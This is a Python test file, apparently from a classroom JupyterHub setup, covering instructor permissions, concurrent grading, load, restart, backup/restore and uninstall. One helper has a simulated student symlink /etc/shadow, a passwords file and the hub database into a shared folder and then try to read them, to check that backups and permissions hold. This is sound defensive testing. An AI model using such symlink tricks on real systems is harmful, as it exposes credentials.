    assert own.status_code == 200, "the token must work on the instructor's own server"
    theirs = requests.get(f"{hub.url}/user/{BLANK[0]}/api/contents", headers=auth, timeout=60)
    assert theirs.status_code == 403, f"an instructor's token reached a student's files: {theirs.status_code}"
    entered = teacher.get(f"{hub.url}/user/{BLANK[0]}/lab", timeout=60)
    assert entered.status_code == 403, f"an instructor entered a student's JupyterLab: {entered.status_code}"
    stopped = requests.delete(f"{hub.url}/hub/api/users/{BLANK[0]}/server", headers=auth, timeout=120)
    assert stopped.status_code in (202, 204), f"an instructor must stop a student's server: {stopped}"
    MEASURED["instructor_on_a_students_server"] = {
        "api_contents": theirs.status_code, "lab": entered.status_code, "stop_server": stopped.status_code}


def test_two_instructors_grade_and_hand_grade_the_same_lesson_at_once(hub):
    import threading

    both = (TEACHER, TEACHER2)
    sessions = {user: _log_in(hub, user, password) for user, _, password in both}
    together = threading.Barrier(len(both))

    def instructor(user: str) -> dict:
        s = sessions[user]
        terminal = Terminal(s, user)
        together.wait()
        began = time.monotonic()
        out, status = terminal.run(f"make grade LESSON={LESSON} SUBMISSIONS=exchange")
        took = time.monotonic() - began
        terminal.close()
        api = f"{hub.url}/user/{user}/formgrader/api"
        headers = {"X-XSRFToken": s.cookies.get("_xsrf", path=f"/user/{user}/")}
        free = []
        for nb in s.get(f"{api}/submitted_notebooks/{LESSON}/{LESSON}", headers=headers, timeout=120).json():
            grades = s.get(f"{api}/grades?submission_id={nb['id']}", headers=headers, timeout=120).json()
            free.append(next(g["id"] for g in grades if g["name"] == "why_rows"))
        together.wait(timeout=900)  # both hand-grade the same answers at the same moment
        answers = [s.put(f"{api}/grade/{grade}", json={"manual_score": score}, headers=headers,
                         timeout=120).status_code
                   for score in (0, 1, 2) for grade in free]
        return {"status": status, "grading_s": round(took, 1), "waited": "waiting for it to finish" in out,
                "hand_grades": answers, "tail": out.replace("\r", "")[-2500:]}

    with ThreadPoolExecutor(len(both)) as pool:
        done = dict(zip([u for u, _, _ in both], pool.map(instructor, [u for u, _, _ in both])))
    MEASURED["two_instructors"] = {u: {k: v for k, v in r.items() if k != "tail"} for u, r in done.items()}
    for user, r in done.items():
        assert r["status"] == 0, f"{user}'s make grade failed:\n{r['tail']}"
        assert set(r["hand_grades"]) == {200}, f"{user}'s hand grades: {r['hand_grades']}"
    assert sum(r["waited"] for r in done.values()) == 1, "one grading run waits for the other"
    gradebook = hub.settings.course / "grading" / "gradebook.db"
    assert gradebook.stat().st_mode & 0o060 == 0o060, oct(gradebook.stat().st_mode)
    teacher2 = sessions[TEACHER2[0]]
    subs = teacher2.get(f"{hub.url}/user/{TEACHER2[0]}/formgrader/api/submissions/{LESSON}", timeout=120,
                        headers={"X-XSRFToken": teacher2.cookies.get("_xsrf", path=f"/user/{TEACHER2[0]}/")})
    scores = {x["student"]: (x["code_score"], x["written_score"]) for x in subs.json()}
    assert scores[RIGHT[0]] == (13, 2) and scores[MISTAKE[0]] == (0, 2), scores  # its script: held again


# ------------------------------------------------------------------ a class at once

_SPAWN_PORTS = """
import asyncio, sys
sys.path.insert(0, {hub_dir!r})
import classhub
import jupyterhub.spawner as spawner

async def started(self):  # what start() hands the hub, without running a server
    if self.port == 0:
        self.port = spawner.random_port()
    return ("127.0.0.1", self.port)

spawner.LocalProcessSpawner.start = started
offered = [41001, 41001, 41002, 41001]  # the same free port offered to two spawns in a row

async def two_then_one_again(cls):
    ports = iter(offered)
    spawner.random_port = lambda: next(ports)
    if hasattr(cls, 'ports'):  # the class spawner's book, drawing from the same offers
        cls.ports = classhub.PortBook(pick=spawner.random_port)
    a, b = cls(), cls()
    got = [(await a.start())[1], (await b.start())[1]]
    a.clear_state()
    a.port = 0
    return got + [(await a.start())[1]]

print(asyncio.run(two_then_one_again(spawner.LocalProcessSpawner)))
print(asyncio.run(two_then_one_again(classhub.make_spawner_class())))
"""


def test_servers_starting_together_get_different_ports(hub):
    """Two spawns handed the same free port: JupyterHub's local spawner gives both servers that
    port (the second cannot bind it, and the hub sends its student to the first one's server);
    the class spawner gives the second another, and reuses a port once its server has stopped."""
    script = _SPAWN_PORTS.format(hub_dir=str(ROOT / "hub"))
    ran = subprocess.run([str(HUB_ENV / "bin" / "python"), "-c", script], capture_output=True, text=True,
                         timeout=120)
    assert ran.returncode == 0, ran.stderr[-2000:]
    plain, ours = ran.stdout.split("\n")[:2]
    assert plain == "[41001, 41001, 41002]", f"the local spawner's own choice: {plain}"
    assert ours == "[41001, 41002, 41001]", f"the class spawner's ports: {ours}"


RELOADS = 3  # how often a student reloads JupyterLab's first page before calling it broken


def _one_student(hub: Hub, user: str, password: str) -> dict:
    """Log in with the hub's login form, wait for the server, fetch and submit lesson 02 through
    the Assignments tab's own endpoints: what a student's clicks send, without a browser."""
    import requests

    s, out = requests.Session(), {"user": user}
    try:
        s.get(f"{hub.url}/hub/login", timeout=60)
        t0 = time.monotonic()
        r = s.post(f"{hub.url}/hub/login", data={"username": user, "password": password,
                                                  "_xsrf": s.cookies.get("_xsrf", path="/hub/")},
                   allow_redirects=False, timeout=120)
        if r.status_code != 302:
            return out | {"error": f"login answered {r.status_code}"}
        out["login_s"] = time.monotonic() - t0
        t1 = time.monotonic()
        s.get(f"{hub.url}/hub/spawn/{user}", timeout=120)
        # As the hub's "starting" page does: follow the spawn's progress events until ready.
        with s.get(f"{hub.url}/hub/api/users/{user}/server/progress",
                   params={"_xsrf": s.cookies.get("_xsrf", path="/hub/")}, stream=True, timeout=420) as r:
            events = [json.loads(line[5:]) for line in r.iter_lines(decode_unicode=True)
                      if line and line.startswith("data:")]
        if not events or not events[-1].get("ready"):
            return out | {"error": f"the spawn did not finish: {events[-1:] or r.status_code}"}
        # The first page of JupyterLab. A student who gets an error page reloads it: so does this,
        # up to three times, and each answer that was not the page is reported with what it said.
        for attempt in range(1 + RELOADS):
            r = s.get(f"{hub.url}/user/{user}/lab", timeout=120)
            if r.status_code == 200:
                break
            out.setdefault("reloads", []).append(
                f"{r.status_code} at {r.url.removeprefix(hub.url)}: {' '.join(r.text.split())[:160]}")
            time.sleep(5 * (attempt + 1))
        else:
            return out | {"error": f"JupyterLab answered {r.status_code} once the server was up, "
                                   f"{RELOADS} reloads later: {out['reloads']}"}
        out["start_s"] = time.monotonic() - t1
        headers = {"X-XSRFToken": s.cookies.get("_xsrf", path=f"/user/{user}/")}
        form = {"course_id": classhub.COURSE_ID, "assignment_id": LESSON}
        for action in ("fetch", "submit"):
            t2 = time.monotonic()
            r = s.post(f"{hub.url}/user/{user}/assignments/{action}", data=form, headers=headers, timeout=300)
            ok = r.status_code == 200 and r.json().get("success")
            if not ok:
                return out | {"error": f"{action} answered {r.status_code}: {r.text[:300]}"}
            out[f"{action}_s"] = time.monotonic() - t2
        out["idle_mib"] = _mib(classhub.memory_in_use(user))
        return out
    except Exception as err:  # a failure is counted, not raised: the report says which and why
        return out | {"error": f"{type(err).__name__}: {err}"}


def _quantiles(values: list[float]) -> dict[str, float]:
    values = sorted(values)
    p95 = values[min(len(values) - 1, round(0.95 * (len(values) - 1)))]
    return {"median": round(statistics.median(values), 2), "p95": round(p95, 2), "max": round(values[-1], 2)}


def test_forty_students_at_once(hub):
    if not LOAD:
        pytest.skip("HUB_TEST_LOAD=0")
    inbound = hub.exchange / classhub.COURSE_ID / "inbound"
    if not (hub.exchange / classhub.COURSE_ID / "outbound" / LESSON).exists():  # run on its own
        proc = hub.as_user(TEACHER[0], "instructor", "nbgrader", "release_assignment", LESSON)
        assert proc.returncode == 0, proc.stderr[-2000:]
    before = {p.name for p in inbound.iterdir()} if inbound.exists() else set()
    start = time.monotonic()
    with ThreadPoolExecutor(len(LOAD)) as pool:
        results = list(pool.map(lambda row: _one_student(hub, row[0], row[2]), LOAD))
    wall = time.monotonic() - start
    failures = {r["user"]: r["error"] for r in results if "error" in r}
    reloads = {r["user"]: r["reloads"] for r in results if r.get("reloads")}
    ok = [r for r in results if "error" not in r]
    # Every submission reaches the exchange once, and the instructor collects each one once.
    new = sorted({p.name for p in inbound.iterdir()} - before)
    per_student = {u: sum(1 for name in new if name.startswith(f"{u}+{LESSON}+")) for u, _, _ in LOAD}
    collected = hub.as_user(TEACHER[0], "instructor", "nbgrader", "collect", LESSON,
                            "--CourseDirectory.submitted_directory=load-collected")
    assert collected.returncode == 0, collected.stderr[-2000:]
    folder = hub.settings.course / "grading" / "load-collected"
    collected_once = {u: len(list((folder / u / LESSON).glob("*.ipynb"))) if (folder / u).exists() else 0
                      for u, _, _ in LOAD}
    idle = [r["idle_mib"] for r in ok if r.get("idle_mib")]
    MEASURED["load"] = {
        "students": len(LOAD), "wall_s": round(wall, 1), "failures": failures, "reloads": reloads,
        "login_s": _quantiles([r["login_s"] for r in ok]) if ok else None,
        "server_start_s": _quantiles([r["start_s"] for r in ok]) if ok else None,
        "fetch_s": _quantiles([r["fetch_s"] for r in ok]) if ok else None,
        "submit_s": _quantiles([r["submit_s"] for r in ok]) if ok else None,
        "submitted_once": sum(1 for n in per_student.values() if n == 1),
        "collected_once": sum(1 for n in collected_once.values() if n == 1),
        "idle_server_mib": _quantiles(idle) if idle else None,
    }
    kernel = MEASURED.get("server_with_lesson_kernel_peak_mib")
    if idle and kernel:  # one idle server per student, and one lesson kernel each, in 24 GiB
        per_student_mib = kernel
        MEASURED["load"]["students_per_24_gib_with_a_lesson_02_kernel"] = \
            int(24 * 1024 * 0.9 // per_student_mib)
    assert not failures, f"{len(failures)} of {len(LOAD)} students failed: {failures}"
    assert all(n == 1 for n in per_student.values()), f"submissions per student: {per_student}"
    assert all(n == 1 for n in collected_once.values()), f"collected per student: {collected_once}"
    assert wall < 600, f"the class took {wall:.0f} s to log in, start, fetch and submit"


# ------------------------------------------------------------------ a term

def _processes(marker: str, hub_api_port: int) -> list[int]:
    """Pids of this hub's processes whose command line holds ``marker`` (by the hub API port
    JupyterHub gives its services and its own environment)."""
    found = []
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        try:
            cmd = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            env = (proc / "environ").read_bytes().decode(errors="replace")
        except OSError:
            continue
        if marker in cmd and f"127.0.0.1:{hub_api_port}" in env:
            found.append(int(proc.name))
    return found


def _hub_pid(hub: Hub) -> int:
    supervisor = (hub.prefix / "state" / "supervisor.pid").read_text().split()[0]
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                stat = (proc / "stat").read_text()
            except OSError:
                continue
            if stat.rsplit(")", 1)[1].split()[1] == supervisor and "jupyterhub" in stat:
                return int(proc.name)
    raise AssertionError(f"no hub process under the supervisor {supervisor}")


def test_the_hub_comes_back_when_its_process_is_killed_with_one_idle_culler(hub):
    killed = _hub_pid(hub)
    cullers = _processes("jupyterhub_idle_culler", hub.port + 1)
    assert len(cullers) == 1, f"idle cullers of this hub before: {cullers}"
    os.kill(killed, 9)
    began = time.monotonic()
    time.sleep(1)
    hub.wait_until_up(120)
    MEASURED["back_after_kill_9_s"] = round(time.monotonic() - began, 1)
    assert _hub_pid(hub) != killed
    for _ in range(60):  # the new hub starts its culler a moment after it answers
        now = _processes("jupyterhub_idle_culler", hub.port + 1)
        if now and not set(now) & set(cullers):
            break
        time.sleep(0.5)
    assert len(now) == 1 and not set(now) & set(cullers), f"cullers before {cullers}, after {now}"
    assert "the hub ended by itself" in hub.supervisor_log.read_text()


def _homes(hub: Hub) -> dict[str, str]:
    """Every file and link in the class's home folders, by path: its bytes' hash, or its target."""
    out = {}
    for user in hub.users:
        for here, _, names in os.walk(pwd.getpwnam(user).pw_dir):
            for name in names:
                path = Path(here, name)
                if path.is_symlink():
                    out[str(path)] = f"-> {os.readlink(path)}"
                elif path.is_file():
                    out[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def _root_only_links(hub: Hub) -> dict[str, Path]:
    """What a student can do from their terminal: links to root-only files, handed in to inbound/
    (writable by all) and left in their home, for root's backup to follow."""
    inbound = hub.exchange / classhub.COURSE_ID / "inbound"
    targets = {"shadow": Path("/etc/shadow"), "passwords": hub.prefix / "state" / "first-passwords.csv",
               "hubdb": hub.prefix / "state" / "jupyterhub.sqlite"}
    links = {}
    for what, target in targets.items():
        assert target.is_file(), f"{target} is missing: nothing to protect"
        link = inbound / f"{MISTAKE[0]}+{LESSON}+{what}"
        made = hub.as_user(MISTAKE[0], "student", "ln", "-s", str(target), str(link), cwd=Path("/tmp"))
        assert made.returncode == 0, made.stderr
        links[what] = link
    home = Path(pwd.getpwnam(MISTAKE[0]).pw_dir)
    made = hub.as_user(MISTAKE[0], "student", "ln", "-sf", "/etc/shadow", str(home / "shadow"), cwd=home)
    assert made.returncode == 0, made.stderr
    return links


def test_a_backup_holds_links_as_links_and_a_restore_leaves_live_homes_alone(hub):
    links = _root_only_links(hub)
    right_home = Path(pwd.getpwnam(RIGHT[0]).pw_dir)
    fetched, deleted = right_home / LESSON / f"{LESSON}.ipynb", right_home / "notes.txt"
    made = hub.as_user(RIGHT[0], "student", "sh", "-c", f"echo 'before the backup' > '{deleted}'",
                       cwd=right_home)
    assert made.returncode == 0 and fetched.is_file(), made.stderr
    backup = hub.prefix / "backups" / "term.tar.gz"
    made = hub.make("hub-backup", f"BACKUP={backup}")
    assert made.returncode == 0, made.stdout + made.stderr
    assert backup.stat().st_mode & 0o077 == 0, "the backup holds every hidden test and submission"
    for link in links.values():
        assert f"archived as a link, not followed: {link} -> " in made.stdout, made.stdout
    root_only = {Path(f).read_bytes() for f in ("/etc/shadow", hub.prefix / "state" / "first-passwords.csv")}
    with tarfile.open(backup) as archive:
        members = {m.name: m for m in archive.getmembers()}
        for what, link in links.items():
            member = members[f"exchange/inbound/{link.name}"]
            assert member.issym() and member.linkname == str(link.readlink()), (what, member.type)
        assert members[f"homes/{MISTAKE[0]}/shadow"].issym()
        copied = [m.name for m in members.values()
                  if m.isfile() and archive.extractfile(m).read() in root_only]
    assert not copied, f"the backup holds root-only files as files: {copied}"

    # Into a fresh prefix: the grading and the exchange there, the homes beside them, no live home touched.
    fresh = hub.prefix / "restored"
    before = _homes(hub)
    restored = hub.make("hub-restore", f"BACKUP={backup}", HUB_PREFIX=fresh, HUB_EXCHANGE=fresh / "exchange")
    assert restored.returncode == 0, restored.stdout + restored.stderr
    assert _homes(hub) == before, "a restore into a fresh prefix changed a live home"
    assert f"{RIGHT[0]}'s home is in {fresh / 'restored-homes' / RIGHT[0]}" in restored.stdout, \
        restored.stdout
    assert f"restored {RIGHT[0]}'s home" not in restored.stdout
    assert (fresh / "restored-homes").stat().st_mode & 0o077 == 0
    exports = []
    for course in (hub.settings.course, fresh / "course"):
        out = course / "grading" / "export-check.csv"
        ran = subprocess.run([str(HUB_ENV / "bin" / "nbgrader"), "export",
                              f"--CourseDirectory.root={course / 'grading'}",
                              f"--CourseDirectory.course_id={classhub.COURSE_ID}",
                              f"--CsvExportPlugin.to={out}"],
                             cwd="/tmp", capture_output=True, text=True, timeout=300)
        assert ran.returncode == 0, ran.stderr[-2000:]
        exports.append(out.read_text())
    assert exports[0] == exports[1] and RIGHT[0] in exports[0], exports
    inbound = fresh / "exchange" / classhub.COURSE_ID / "inbound"
    assert sorted(p.name for p in inbound.iterdir()) == \
        sorted(p.name for p in (hub.exchange / classhub.COURSE_ID / "inbound").iterdir())
    assert all((inbound / link.name).is_symlink() for link in links.values())
    for secret in (fresh / "course" / "grading" / "gradebook.db", inbound / links["hubdb"].name,
                   inbound / links["shadow"].name):
        peek = hub.login_shell(MISTAKE[0], f"cat '{secret}'")
        assert peek.returncode != 0 and "Permission denied" in peek.stderr, f"a student reads {secret}"

    # Into the live homes, when asked: a file changed since the backup is kept and named.
    made = hub.as_user(RIGHT[0], "student", "sh", "-c",
                       f"echo ' ' >> '{fetched}' && rm '{deleted}'", cwd=right_home)
    assert made.returncode == 0, made.stderr
    newer = fetched.read_bytes()
    before = _homes(hub)
    homes = hub.make("hub-restore", f"BACKUP={backup}", "HOMES=1", HUB_PREFIX=fresh,
                     HUB_EXCHANGE=fresh / "exchange")
    assert homes.returncode == 0, homes.stdout + homes.stderr
    assert fetched.read_bytes() == newer, "a restore replaced a student's newer work"
    assert f"{RIGHT[0]}'s home: not replaced: {fetched} (changed " in homes.stdout, homes.stdout
    assert deleted.read_text() == "before the backup\n" and deleted.owner() == RIGHT[0]
    after = _homes(hub)
    assert {k: v for k, v in after.items() if k != str(deleted)} == before, "only the deleted file comes back"
    MEASURED["backup"] = {"bytes": backup.stat().st_size, "links_kept_as_links": len(links) + 1,
                          "kept_newer": [x.split("not replaced: ")[1] for x in homes.stdout.splitlines()
                                         if "not replaced" in x]}


def test_make_hub_again_keeps_an_instructors_edit_and_serves_https(hub):
    import requests

    solution = hub.settings.course / "solutions" / LESSON / f"{LESSON}.py"
    edited = hub.login_shell(TEACHER[0], f"echo '# one more hidden test, by the instructor' >> '{solution}'")
    assert edited.returncode == 0, edited.stderr
    cert, key = hub.prefix / "state" / "cert.pem", hub.prefix / "state" / "key.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj",
                    "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1", "-keyout", str(key),
                    "-out", str(cert)], check=True, capture_output=True)
    assert hub.make("hub-stop").returncode == 0
    again = hub.make("hub", f"ROSTER={hub.roster}", HUB_SSL_CERT=cert, HUB_SSL_KEY=key)
    said = again.stdout + again.stderr
    assert again.returncode == 0, said[-3000:]
    assert f"kept the instructors' edit of solutions/{LESSON}/{LESSON}.py" in said, said[-3000:]
    assert solution.read_text().endswith("# one more hidden test, by the instructor\n")
    hub.scheme = "https"
    hub.wait_until_up(300, verify=str(cert))
    page = requests.get(f"{hub.url}/hub/login", verify=str(cert), timeout=60)
    assert page.ok and "username_input" in page.text
    with pytest.raises(requests.exceptions.SSLError):
        requests.get(f"{hub.url}/hub/login", timeout=60)  # a certificate the machine does not trust
    with pytest.raises(requests.exceptions.ConnectionError):
        requests.get(f"http://127.0.0.1:{hub.port}/hub/login", timeout=60)


def test_uninstall_removes_what_make_hub_made_and_accounts_only_when_asked(hub):
    outsider = "afs-outsider"  # made by hand, not by make hub, and put in the students' group
    subprocess.run(["userdel", "--remove", outsider], capture_output=True)
    subprocess.run(["useradd", "--create-home", "--groups", classhub.STUDENTS, outsider], check=True)
    try:
        kept = hub.make("hub-uninstall")
        assert kept.returncode == 0, kept.stdout + kept.stderr
        assert "the class accounts are kept" in kept.stdout
        record = hub.prefix / "state" / "accounts-created.txt"
        assert [p for p in hub.prefix.rglob("*") if p.is_file()] == [record], \
            "the prefix keeps only the list of the accounts make hub created"
        assert record.stat().st_mode & 0o077 == 0 and set(record.read_text().split()) == set(hub.users)
        assert not (hub.exchange / classhub.COURSE_ID).exists()
        assert HUB_ENV.exists(), "an environment outside the prefix is left alone"
        backup = re.search(r"backed up .*: (/var/backups/attention-hub-\S+\.tar\.gz)", kept.stdout)
        assert backup, kept.stdout
        names = {f"exchange/inbound/{MISTAKE[0]}+{LESSON}+{w}" for w in ("shadow", "passwords", "hubdb")}
        try:
            with tarfile.open(backup.group(1)) as archive:
                links = [m for m in archive.getmembers() if m.name in names]
        finally:
            Path(backup.group(1)).unlink()  # the test's class, not one to keep
        assert len(links) == len(names) and all(m.issym() for m in links), \
            "the uninstall's backup follows a student's link"
        assert classhub.role_of(TEACHER[0]) == "instructor"
        gone = hub.make("hub-uninstall", "ACCOUNTS=1")
        assert gone.returncode == 0, gone.stdout + gone.stderr
        assert f"removed the accounts make hub created ({len(hub.users)})" in gone.stdout, gone.stdout
        assert f"kept, not made by make hub (1): {outsider}" in gone.stdout, gone.stdout
        assert classhub.role_of(TEACHER[0]) is None and classhub.role_of(RIGHT[0]) is None
        assert classhub.role_of(outsider) == "student", "an account make hub did not create was deleted"
        assert subprocess.run(["getent", "group", classhub.INSTRUCTORS]).returncode == 2, \
            "the instructors' group, empty now, must go"
        assert not hub.prefix.exists() or not any(hub.prefix.iterdir())
    finally:
        subprocess.run(["userdel", "--remove", outsider], capture_output=True)
        subprocess.run(["groupdel", classhub.STUDENTS], capture_output=True)
    MEASURED["uninstall_accounts"] = {"removed": len(hub.users), "kept_outsider": outsider}
